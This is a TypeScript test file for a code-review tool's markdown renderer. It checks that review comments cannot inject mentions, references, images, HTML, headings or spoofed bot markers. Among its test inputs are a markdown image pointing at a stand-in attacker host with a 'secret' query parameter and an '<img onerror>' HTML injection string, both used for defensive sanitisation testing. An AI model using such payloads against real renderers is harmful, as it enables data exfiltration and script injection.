import fc from 'fast-check';
import type { ReviewComment } from './comments.ts';
import { commentMarkdown, summaryMarkdown } from './review-markdown.ts';

const comment = (more: Partial<ReviewComment>): ReviewComment => ({
  fingerprint: 'f',
  source: 'ai',
  area: null,
  severity: 'error',
  path: 'a.js',
  line: 1,
  message: 'x',
  rule_id: null,
  help: null,
  ...more,
});
const summaryOf = (comments: ReviewComment[]) =>
  summaryMarkdown({
    approved: false,
    score: 1,
    comments,
    counts: { error: 1, warning: 0, note: 0 },
    files: 1,
    changed_lines: 1,
    skipped: {},
    complete: true,
    head_commit: 'a'.repeat(40),
    ai: '',
  });

test.each([
  ['a mention', '@somebody look', /@somebody/],
  ['a reference', 'fixes #12', /#12/],
  ['an image', '![x](https://evil.example/p?q=secret)', /!\[|\]\(|https:\/\//],
  ['HTML', '<img src=x onerror=y>', /<img/],
  ['a heading', 'x\n# Approved', /^# /m],
  ['the marker of our own comments', '<!-- orchestrator:fingerprint summary -->', /<!--/],
])('what is said adds no %s', (_what, message, forbidden) => {
  expect(commentMarkdown(comment({ message }))).not.toMatch(forbidden);
  expect(summaryOf([comment({ message })])).not.toMatch(forbidden);
});

test('a path stays inside its code, whatever it is', () => {
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom('`', 'a', ' ', '<', '\n'), maxLength: 12 }), (path) => {
      const line = summaryOf([comment({ path })])
        .split('\n')
        .at(-1)!;
      const fence = /^- \*\*error\*\* (`+)/.exec(line)![1]!;
      const runs = line.match(/`+/g)!;
      expect(runs.filter((run) => run === fence)).toHaveLength(2);
    }),
  );
});

test('who says so is told', () => {
  expect(commentMarkdown(comment({}))).toContain('A language model says so');
  const automated = comment({ source: 'automated', rule_id: 'security/x', help: 'Do y.' });
  expect(commentMarkdown(automated)).toMatch(/Do y\..*Found by the rule `security\/x`/s);
});

test('a summary lists so many and counts the rest', () => {
  const text = summaryOf(Array.from({ length: 150 }, (_, i) => comment({ line: i + 1 })));
  expect(text.match(/^- \*\*error/gm)).toHaveLength(100);
  expect(text).toContain('… and 50 more');
});
